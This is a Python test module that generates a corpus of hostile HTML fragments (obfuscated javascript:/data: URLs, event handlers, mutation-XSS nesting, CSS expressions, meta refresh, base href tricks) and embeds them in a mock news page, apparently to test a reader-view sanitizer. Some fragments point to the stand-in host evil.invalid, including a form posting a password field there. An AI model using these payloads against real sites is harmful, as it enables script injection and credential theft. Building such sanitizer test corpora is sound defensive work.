"""A corpus of hostile reader-view inputs, generated: each case is one HTML fragment.

The cases cover what a page can try against a sanitizer: event handlers, script-capable URL
schemes (javascript:, vbscript:, data:) in every URL-bearing attribute, written plainly and
obfuscated (entities, case, tabs/newlines, leading controls), SVG and MathML namespaces,
mutation XSS (noscript/template/style/textarea/xmp nesting, comment and CDATA tricks), CSS
(expression(), url(), @import, behaviors), meta refresh, base href, iframe srcdoc,
object/embed/applet and forms. :func:`corpus` returns ``(name, fragment, where)`` triples;
``where`` is "body" (inside the article) or "head".
"""

from __future__ import annotations

import itertools

ALERT = "alert(1)"

#: Script-capable URLs, plain and obfuscated as browsers still read them.
HOSTILE_URLS: dict[str, str] = {
    "js": "javascript:alert(1)",
    "js-case": "JaVaScRiPt:alert(1)",
    "js-upper": "JAVASCRIPT:alert(1)",
    "js-tab": "java\tscript:alert(1)",
    "js-newline": "java\nscript:alert(1)",
    "js-entity-tab": "java&#x09;script:alert(1)",
    "js-entity-newline": "jav&#x0A;ascript:alert(1)",
    "js-entity-dec": "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "js-entity-hex": "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)",
    "js-entity-padded": "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
                        "&#0000105&#0000112&#0000116&#0000058alert(1)",
    "js-colon-entity": "javascript&colon;alert(1)",
    "js-colon-dec": "javascript&#58;alert(1)",
    "js-leading-space": "  javascript:alert(1)",
    "js-leading-control": "&#1;&#14;javascript:alert(1)",
    "js-leading-nbsp-entity": "&#x20;javascript:alert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "vbscript-case": "VbScRiPt:msgbox(1)",
    "data-html": "data:text/html,<script>alert(1)</script>",
    "data-html-b64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data-case": "DaTa:text/html,<script>alert(1)</script>",
    "data-js": "data:application/javascript,alert(1)",
    "data-svg-in-link": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "livescript": "livescript:alert(1)",
}

#: Contexts holding a URL: (name, template with {url}).
URL_CONTEXTS: list[tuple[str, str]] = [
    ("a-href", '<a href="{url}">link text</a>'),
    ("a-href-unquoted", "<a href={url_unquoted}>link text</a>"),
    ("area-href", '<map name="m"><area href="{url}" shape="rect" coords="0,0,9,9"></map>'),
    ("img-src", '<img src="{url}" alt="a picture">'),
    ("img-srcset", '<img src="/ok.png" srcset="{url} 2x" alt="a picture">'),
    ("img-srcset-second", '<img src="/ok.png" srcset="/ok.png 1x, {url} 2x" alt="p">'),
    ("picture-source-srcset", '<picture><source srcset="{url}"><img src="/ok.png" alt="p">'
                              "</picture>"),
    ("img-lowsrc", '<img src="/ok.png" lowsrc="{url}" dynsrc="{url}" longdesc="{url}" alt="p">'),
    ("img-data-src", '<img data-src="{url}" data-srcset="{url} 2x" alt="lazy picture">'),
    ("blockquote-cite", '<blockquote cite="{url}"><p>A quoted sentence.</p></blockquote>'),
    ("q-cite", '<p>He said <q cite="{url}">a quoted phrase</q> today.</p>'),
    ("del-ins-cite", '<p><del cite="{url}">old</del> <ins cite="{url}">new</ins></p>'),
    ("form-action", '<form action="{url}"><input type="submit" value="Go"></form>'),
    ("button-formaction", '<form><button formaction="{url}">Send</button></form>'),
    ("input-formaction", '<form><input type="image" src="/ok.png" formaction="{url}"></form>'),
    ("video-poster", '<video poster="{url}" src="{url}"><track src="{url}"></video>'),
    ("audio-src", '<audio src="{url}" controls></audio>'),
    ("body-background", '<table background="{url}"><tr><td background="{url}">cell</td>'
                        "</tr></table>"),
    ("iframe-src", '<iframe src="{url}"></iframe>'),
    ("frame-src", '<frameset><frame src="{url}"></frameset>'),
    ("embed-src", '<embed src="{url}">'),
    ("object-data", '<object data="{url}" codebase="{url}"><param name="movie" value="{url}">'
                    "</object>"),
    ("applet-code", '<applet code="{url}" archive="{url}"></applet>'),
    ("script-src", '<script src="{url}"></script>'),
    ("link-href", '<link rel="stylesheet" href="{url}"><link rel="import" href="{url}">'),
    ("svg-a-xlink", '<svg><a xlink:href="{url}"><text x="0" y="15">svg link</text></a></svg>'),
    ("svg-a-href", '<svg><a href="{url}"><text x="0" y="15">svg link</text></a></svg>'),
    ("svg-image", '<svg><image href="{url}" xlink:href="{url}"></image></svg>'),
    ("svg-use", '<svg><use href="{url}" xlink:href="{url}"></use></svg>'),
    ("math-href", '<math href="{url}"><mi>x</mi></math>'),
    ("math-mi-href", '<math><mi href="{url}" xlink:href="{url}">x</mi></math>'),
    ("math-maction", '<math><maction actiontype="statusline" xlink:href="{url}">'
                     "<mi>y</mi></maction></math>"),
    ("a-ping", '<a href="/ok" ping="{url}">pinging link</a>'),
    ("img-usemap", '<img src="/ok.png" usemap="{url}" alt="p">'),
]

#: Event handlers on elements a sanitizer may keep (and some it must not).
HANDLER_CASES: list[str] = [
    '<img src="x" onerror="alert(1)" alt="p">',
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    '<img src="x" onerror  =  "alert(1)">',
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    '<img src="x"\nonerror="alert(1)">',
    '<img src="x" / onerror="alert(1)">',
    '<p onclick="alert(1)">clickable paragraph</p>',
    '<a href="/ok" onmouseover="alert(1)">hover link</a>',
    '<div onpointerenter="alert(1)">pointer area</div>',
    '<span onfocus="alert(1)" tabindex="0" autofocus>focus span</span>',
    '<details open ontoggle="alert(1)"><summary>More</summary>hidden</details>',
    '<body onload="alert(1)">',
    '<svg onload="alert(1)"></svg>',
    "<svg/onload=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    '<audio src="x" onerror="alert(1)"></audio>',
    '<input autofocus onfocus="alert(1)">',
    '<marquee onstart="alert(1)">moving</marquee>',
    '<table onmouseover="alert(1)"><tr><td onclick="alert(1)">cell</td></tr></table>',
    '<h2 onanimationstart="alert(1)" style="animation:spin 1s">heading</h2>',
    '<blockquote oncopy="alert(1)">quote to copy</blockquote>',
    '<li onclick="alert(1)">item</li>',
    '<ul><li onmouseenter="alert(1)">item</li></ul>',
    '<strong onbeforeinput="alert(1)" contenteditable>edit me</strong>',
    '<code onwheel="alert(1)">code</code>',
    '<pre onscroll="alert(1)">pre</pre>',
    '<img src="/ok.png" onload="alert(1)" alt="loads">',
    '<figure onclick="alert(1)"><img src="/ok.png"><figcaption onclick="alert(1)">cap'
    "</figcaption></figure>",
    '<time ontransitionend="alert(1)" datetime="2024-01-01">today</time>',
    '<button onclick="alert(1)">press</button>',
    '<select onchange="alert(1)"><option>one</option></select>',
    '<textarea onfocus="alert(1)" autofocus>text</textarea>',
    '<form onsubmit="alert(1)"><input type="submit"></form>',
    '<object onerror="alert(1)"></object>',
    '<iframe onload="alert(1)"></iframe>',
    '<img src="x" onerror=alert`1`>',
    '<img src="x" onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
    '<math onclick="alert(1)"><mi onmouseover="alert(1)">x</mi></math>',
    '<svg><g onclick="alert(1)"><rect width="9" height="9"></rect></g></svg>',
    '<p x="a" onclick="alert(1)" y="b">many attributes</p>',
    '<img src="x" on\x00error="alert(1)">',
    '<p ONMOUSEOVER=alert(1)>upper-case handler</p>',
]

#: Mutation XSS: markup that means one thing to a sanitizer's parser and another after
#: serializing and re-parsing in a browser.
MXSS_CASES: list[str] = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    '<template><p title="</template><img src=x onerror=alert(1)>"></p></template>',
    "<style><img src=x onerror=alert(1)></style>",
    '<style></style><img src=x onerror=alert(1)>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    '<textarea></textarea><img src=x onerror=alert(1)>',
    "<textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    '<!-- <img title="--><img src=x onerror=alert(1)>"> -->',
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><![CDATA[><img src=x onerror=alert(1)>]]></math>",
    "<?xml ><img src=x onerror=alert(1)>?>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;"
    "&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) "
    "src=1>\"></textarea></mtext></svg></mglyph></mi></math>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style>"
    "<img src onerror=alert(1)>\"></style></h1>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml>'
    "</math>",
    '<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x '
    "onerror=alert(1)></style></annotation-xml></math>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    "<table><style><img src=x onerror=alert(1)></style></table>",
    "<table><td><noscript><img src=x onerror=alert(1)></noscript></td></table>",
    '<a title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">entity title</a>',
    '<p title="&lt;script&gt;alert(1)&lt;/script&gt;">escaped script in title</p>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script\x00>alert(1)</script>",
    '<script type="text/plain"><img src=x onerror=alert(1)></script>',
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<div><svg><foreignobject><p><style><p title=\"</style><iframe onload&#x3d;alert(1)>\">",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg><script href=\"data:,alert(1)\"></script></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text y=9>x</text></a>"
    "</svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<svg><handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">alert(1)"
    "</handler></svg>",
]

#: CSS-borne script and styling that escapes the reader.
CSS_CASES: list[str] = [
    '<div style="background:url(javascript:alert(1))">styled div</div>',
    '<div style="width:expression(alert(1))">expression</div>',
    '<span style="x:\\65xpression(alert(1))">escaped expression</span>',
    '<p style="-moz-binding:url(http://evil.invalid/xss.xml#x)">binding</p>',
    '<p style="behavior:url(x.htc)">behavior</p>',
    '<div style="background-image:url(&quot;javascript:alert(1)&quot;)">entity url</div>',
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<style>@import url(javascript:alert(1));</style>",
    "<style>@import 'http://evil.invalid/x.css';</style>",
    '<style>p{behavior:url(x.htc)}</style><p>styled</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99">overlay</div>',
    '<img src="/ok.png" style="x:expression(alert(1))" alt="p">',
    '<link rel="stylesheet" href="http://evil.invalid/x.css">',
    '<svg><style>svg{background:url(javascript:alert(1))}</style></svg>',
]

#: Head-only and document-level tricks.
DOCUMENT_CASES: list[tuple[str, str]] = [
    ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "head"),
    ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "body"),
    ('<meta http-equiv="refresh" content="0; URL=data:text/html,<script>alert(1)</script>">',
     "body"),
    ('<meta http-equiv="Content-Security-Policy" content="script-src *">', "body"),
    ('<meta charset="UTF-7"><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>', "body"),
    ('<base href="javascript:alert(1)//">', "head"),
    ('<base href="javascript:alert(1)//"><a href="x">relative</a>', "body"),
    ('<base href="http://evil.invalid/"><a href="x">relative</a>', "body"),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "body"),
    ('<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>', "body"),
    ('<iframe src="http://evil.invalid/" sandbox="allow-scripts"></iframe>', "body"),
    ('<object type="text/html" data="http://evil.invalid/"></object>', "body"),
    ('<embed type="image/svg+xml" src="http://evil.invalid/x.svg">', "body"),
    ('<object><embed src="http://evil.invalid/x.swf"></object>', "body"),
    ('<portal src="http://evil.invalid/"></portal>', "body"),
    ('<form action="http://evil.invalid/"><input name="password" type="password"></form>',
     "body"),
    ('<input type="hidden" name="csrf" value="x" formaction="http://evil.invalid/">', "body"),
    ('<frameset onload="alert(1)"><frame src="http://evil.invalid/"></frameset>', "body"),
    ('<html xmlns:xss><?import namespace="xss" implementation="x.htc"><xss:xss>x</xss:xss>',
     "body"),
    ('<xml id="x"><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml>', "body"),
    ('<div id="d" data-bind="html: alert(1)">knockout binding</div>', "body"),
    ('<div ng-app>{{constructor.constructor("alert(1)")()}}</div>', "body"),
    ('<a href="/ok" target="_blank">opener</a>', "body"),
    ('<a href="//evil.invalid/">protocol-relative</a>', "body"),
    ('<a href="\\\\evil.invalid\\x">backslash-relative</a>', "body"),
    ('<dialog open><form method="dialog"><button>x</button></form></dialog>', "body"),
    ('<math><mtext><a href="javascript:alert(1)">math link</a></mtext></math>', "body"),
    ('<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text y="9">x</text>'
     "</a></svg>", "body"),
]


def _unquoted(url: str) -> str:
    return url.replace(" ", "").replace("\t", "&#9;").replace("\n", "&#10;").replace(
        ">", "%3E").replace("<", "%3C")


def url_cases() -> list[tuple[str, str]]:
    cases = []
    for (context, template), (kind, url) in itertools.product(URL_CONTEXTS,
                                                              HOSTILE_URLS.items()):
        if "url_unquoted" in template:
            fragment = template.format(url_unquoted=_unquoted(url))
        else:
            fragment = template.format(url=url.replace('"', "&quot;"))
        cases.append((f"url/{context}/{kind}", fragment))
    return cases


def corpus() -> list[tuple[str, str, str]]:
    """Every case as (name, fragment, where)."""
    cases = [(name, fragment, "body") for name, fragment in url_cases()]
    cases += [(f"handler/{i:02d}", fragment, "body") for i, fragment in enumerate(HANDLER_CASES)]
    cases += [(f"mxss/{i:02d}", fragment, "body") for i, fragment in enumerate(MXSS_CASES)]
    cases += [(f"css/{i:02d}", fragment, "body") for i, fragment in enumerate(CSS_CASES)]
    cases += [(f"document/{i:02d}-{where}", fragment, where)
              for i, (fragment, where) in enumerate(DOCUMENT_CASES)]
    return cases


ARTICLE_TEXT = ("The harbour commission met on Tuesday to discuss the repairs to the old "
                "lighthouse, which has stood at the mouth of the river since the storm of the "
                "last century and still guides the fishing boats home at night. ")


def page(name: str, fragment: str, where: str) -> str:
    """A plausible article page with the hostile fragment inside its body (or head)."""
    marker = "Casemark" + "".join(ch for ch in name if ch.isalnum())
    head = fragment if where == "head" else ""
    body = fragment if where == "body" else ""
    return (f"<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Harbour news: {name}"
            f"</title>{head}</head><body><nav><a href=\"/\">Home</a> <a href=\"/news\">News"
            f"</a> <a href=\"/sport\">Sport</a></nav><article><h1>Repairs to the old "
            f"lighthouse</h1><p>{marker} {ARTICLE_TEXT * 2}</p><div class=\"story\"><p>"
            f"Storymark {ARTICLE_TEXT}</p>{body}</div><p>{ARTICLE_TEXT * 3}</p>"
            f"<p>{ARTICLE_TEXT * 2}</p></article><footer>"
            f"<a href=\"/about\">About</a> <a href=\"/contact\">Contact</a></footer></body>"
            "</html>")
